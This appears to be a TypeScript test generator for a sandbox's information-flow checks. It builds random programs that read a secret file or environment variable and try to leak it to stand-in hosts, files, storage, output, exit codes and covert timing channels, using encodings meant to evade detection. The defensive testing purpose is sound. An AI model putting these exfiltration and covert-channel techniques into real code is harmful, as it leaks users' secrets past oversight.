/** Generated programs that try to tell somebody what they have read, and what an uncleared observer sees of one (FLOW, the test that decides). A
 *  program is made once, from a seed, and run as often as one likes: the same steps with another secret. */
import { type Guest, type Reply, run } from "../unit/session/guest.ts";
import type { Random } from "./random.ts";
import type { WorldOptions } from "./world.ts";

interface Running {
  readonly guest: Guest;
  /** All that it knows by now. */
  known: string;
  /** The last one that was opened. */
  upload: number | undefined;
  readonly uploads: number[];
  /** The program is over; what opens now is ended at once. */
  over: boolean;
  socket: number | undefined;
  /** Begun and not waited for. */
  readonly underWay: Promise<unknown>[];
}

export interface Step {
  readonly name: string;
  /** It tries to tell what is known. */
  readonly tells: boolean;
  readonly act: (running: Running) => Promise<void>;
}

export interface Program {
  readonly steps: readonly Step[];
  /** It reads the secret, and tries to tell something afterwards. */
  readonly leaks: boolean;
}

const hosts = ["a.example", "b.example"] as const;
const options: WorldOptions = {
  grants: ["--allow-read", "--allow-write", "--allow-net", "--allow-data=kv", "--allow-env"],
  sites: {
    "a.example": { answer: { body: "from a" } },
    "r.example": { answer: { status: 302, location: "https://b.example/moved" } },
  },
};
const labels = { "read=./private": "secret", "env=S_*": "secret" };

/** How something is said so that nobody who looks for the words finds them. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => Buffer.from(text).toString("base64url"),
  (text) => Buffer.from(text).toString("hex"),
  (text) => [...text].reverse().join(""),
  (text) => String(text.length),
  (text) => [...text].map((c) => (c.codePointAt(0) ?? 0) % 2).join(""),
  (text) => String([...text].reduce((sum, c) => (sum * 31 + (c.codePointAt(0) ?? 0)) % 997, 7)),
  (text) => "x".repeat(1 + (text.length % 50)),
];

const bitOf = (text: string, at: number): boolean =>
  (text.codePointAt(at % Math.max(1, text.length)) ?? 0) % 2 === 1;

async function fetching({ guest }: Running, host: string, path: string, body = ""): Promise<Reply> {
  const request = {
    url: `https://${host}/${path}`,
    method: body ? "POST" : "GET",
    headers: [],
    redirect: "follow",
  };
  return await guest.call("net.fetch", { ...request, hasBody: body !== "" }, body);
}

const learn = (running: Running, reply: Reply): void => {
  running.known += reply.text ?? JSON.stringify(reply.value ?? reply.error?.code ?? "");
};

type Maker = (random: Random, depth: number) => Step;
const step = (name: string, tells: boolean, act: Step["act"]): Step => ({ name, tells, act });

/** What reads the secret, or something about it. */
const reading: readonly Maker[] = [
  () =>
    step("read", false, async (r) => learn(r, await r.guest.call("fs.readFile", { path: "private/secret" }))),
  () =>
    step("read through a link", false, async (r) =>
      learn(r, await r.guest.call("fs.readFile", { path: "link" })),
    ),
  () => step("stat", false, async (r) => learn(r, await r.guest.call("fs.stat", { path: "private/secret" }))),
  () => step("variable", false, async (r) => learn(r, await r.guest.call("env.get", { name: "S_KEY" }))),
  () =>
    step("copy and read", false, async (r) => {
      await r.guest.call("fs.copyFile", { from: "private/secret", to: "out/copy" });
      learn(r, await r.guest.call("fs.readFile", { path: "out/copy" }));
    }),
];

const plain: readonly Maker[] = [
  () =>
    step("read something open", false, async (r) =>
      learn(r, await r.guest.call("fs.readFile", { path: "open.txt" })),
    ),
  (random) => {
    const host = random.pick([...hosts, "r.example"]);
    return step("ask a host", false, async (r) => void (await fetching(r, host, "plain")));
  },
  () => step("open an upload", false, async (r) => openUpload(r)),
  () =>
    step("open a socket", false, async (r) => {
      const reply = await r.guest.call("net.connectWebSocket", {
        url: "wss://a.example/ws",
        protocols: [],
        headers: [],
      });
      r.socket = (reply.value as { handle?: number } | undefined)?.handle;
    }),
];

async function openUpload(running: Running): Promise<void> {
  const { value } = await running.guest.call("net.openBody");
  const handle = (value as { handle: number }).handle;
  running.upload = handle;
  running.uploads.push(handle);
  if (running.over) running.underWay.push(running.guest.call("net.endBody", { handle }));
  const request = { url: "https://a.example/upload", method: "POST", headers: [], redirect: "error" };
  const sent = running.guest.call("net.fetch", { ...request, hasBody: true, bodyHandle: handle });
  // As the standard library does: whoever still writes is told.
  running.underWay.push(sent.then(() => running.guest.call("net.endBody", { handle, error: "over" })));
}

/** What tries to tell it. */
const telling: readonly Maker[] = [
  (random) => {
    const [host, say] = [random.pick([...hosts, "r.example"]), random.pick(encodings)];
    return step("send it", true, async (r) => void (await fetching(r, host, `?q=${say(r.known)}`)));
  },
  (random) => {
    const say = random.pick(encodings);
    return step("post it", true, async (r) => void (await fetching(r, "a.example", "in", say(r.known))));
  },
  (random) => {
    const say = random.pick(encodings);
    return step(
      "write it",
      true,
      async (r) => void (await r.guest.call("fs.writeFile", { path: "out/file" }, say(r.known))),
    );
  },
  (random) => {
    const say = random.pick(encodings);
    return step("name a file after it", true, async (r) => {
      await r.guest.call(
        "fs.writeFile",
        { path: `out/f${say(r.known).slice(0, 40).replaceAll("/", "_")}` },
        "x",
      );
    });
  },
  (random) => {
    const say = random.pick(encodings);
    return step("keep it", true, async (r) => {
      const changes = [
        { op: "set", key: `k${say(r.known).slice(0, 20)}`, value: JSON.stringify(say(r.known)) },
      ];
      await r.guest.call("data.apply", { changes });
    });
  },
  (random) => {
    const [say, stream] = [random.pick(encodings), random.pick([1, 2] as const)];
    return step("print it", true, async (r) => r.guest.print(`${say(r.known)}\n`, stream));
  },
  (random) => {
    const at = random.below(8);
    return step(
      "ask one host or the other",
      true,
      async (r) => void (await fetching(r, bitOf(r.known, at) ? "a.example" : "b.example", "ping")),
    );
  },
  () =>
    step("count it in requests", true, async (r) => {
      for (let n = 0; n < r.known.length % 7; n += 1) await fetching(r, "a.example", `n${n}`);
    }),
  () =>
    step("count it in files", true, async (r) => {
      for (let n = 0; n < r.known.length % 5; n += 1) await r.guest.call("fs.mkdir", { path: `out/d${n}` });
    }),
  () =>
    step(
      "end with it",
      true,
      async (r) => void (await r.guest.call("plugin.setExitCode", { code: r.known.length % 60 })),
    ),
  (random) => {
    const say = random.pick(encodings);
    return step("write on into an upload", true, async (r) => {
      if (r.upload === undefined) await openUpload(r);
      if (r.upload !== undefined)
        r.underWay.push(r.guest.call("net.writeBody", { handle: r.upload }, say(r.known)));
    });
  },
  (random) => {
    const say = random.pick(encodings);
    return step("say it over a socket", true, async (r) => {
      if (r.socket === undefined) await fetching(r, "a.example", `?s=${say(r.known)}`);
      else await r.guest.call("net.socketSend", { handle: r.socket, text: true }, say(r.known));
    });
  },
  () =>
    step("remove a file or not", true, async (r) => {
      if (r.known.length % 2 === 1) await r.guest.call("fs.remove", { path: "open.txt", recursive: false });
    }),
];

/** What makes others happen in another way. */
const joining: readonly Maker[] = [
  (random, depth) => {
    const [at, yes, no] = [random.below(8), anyStep(random, depth - 1), anyStep(random, depth - 1)];
    return step(
      `if: ${yes.name}, else ${no.name}`,
      yes.tells || no.tells,
      async (r) => await (bitOf(r.known, at) ? yes : no).act(r),
    );
  },
  (random, depth) => {
    const inner = anyStep(random, depth - 1);
    return step(`begin: ${inner.name}`, inner.tells, async (r) => void r.underWay.push(inner.act(r)));
  },
  (random, depth) => {
    const inner = anyStep(random, depth - 1);
    return step(`as often as it is long: ${inner.name}`, inner.tells, async (r) => {
      for (let n = 0; n < 1 + (r.known.length % 3); n += 1) await inner.act(r);
    });
  },
  (random, depth) => {
    const inner = anyStep(random, depth - 1);
    return step(`after as many turns: ${inner.name}`, inner.tells, async (r) => {
      for (let n = 0; n < r.known.length; n += 1) await Promise.resolve();
      await inner.act(r);
    });
  },
  (random, depth) => {
    const [ping, read] = [random.pick(hosts), random.pick(reading)(random, depth)];
    return step(`ping while: ${read.name}`, true, async (r) => {
      const reads = read.act(r);
      for (let n = 0; n < 6; n += 1) r.underWay.push(fetching(r, ping, `ping${n}`));
      await reads;
    });
  },
];

function anyStep(random: Random, depth = 2): Step {
  if (depth > 0 && random.chance(0.35)) return random.pick(joining)(random, depth);
  return random.pick(random.chance(0.5) ? telling : random.chance(0.4) ? reading : plain)(random, depth);
}

export function someProgram(random: Random): Program {
  const before = random.list(2, () => random.pick(plain)(random, 1));
  const read = random.pick(reading)(random, 1);
  const after = [...random.list(3, () => anyStep(random)), random.pick(telling)(random, 1)];
  // Whatever else it tries, in the end it says it plainly.
  const plainly = step(
    "post it plainly",
    true,
    async (r) => void (await fetching(r, "a.example", "end", r.known)),
  );
  return { steps: [...before, read, ...after, plainly], leaks: true };
}

/** Everything that somebody sees who is cleared for nothing. */
export interface View {
  readonly hosts: readonly string[];
  readonly files: readonly (readonly [string, unknown])[];
  readonly store: readonly (readonly [string, string])[];
  readonly out: string;
  readonly err: string;
  readonly exit: number;
}

/** @param held with labels, or without, where it is to be seen that the program does tell */
export async function viewOf(program: Program, secret: string, held: boolean): Promise<View> {
  const done = await run(
    async (guest) => {
      const running: Running = {
        guest,
        known: "",
        upload: undefined,
        uploads: [],
        over: false,
        socket: undefined,
        underWay: [],
      };
      for (const one of program.steps) await one.act(running);
      running.over = true;
      for (const handle of running.uploads) running.underWay.push(guest.call("net.endBody", { handle }));
      for (let done = -1; done < running.underWay.length; ) {
        done = running.underWay.length;
        await Promise.all(running.underWay);
      }
      guest.idle();
    },
    {
      ...options,
      files: {
        "private/secret": secret,
        "open.txt": "open",
        link: { link: "private/secret" },
        "out/there": "",
        out: null,
      },
      env: { S_KEY: secret },
      ...(held ? { labels } : {}),
    },
  );
  const { world, out, err, exit } = done;
  return {
    hosts: world.seen,
    files: [...world.tree.nodes]
      .filter(([path]) => !path.includes("/private"))
      .sort(([a], [b]) => (a < b ? -1 : 1)),
    store: [...world.store.entries].sort(),
    out,
    err,
    exit,
  };
}
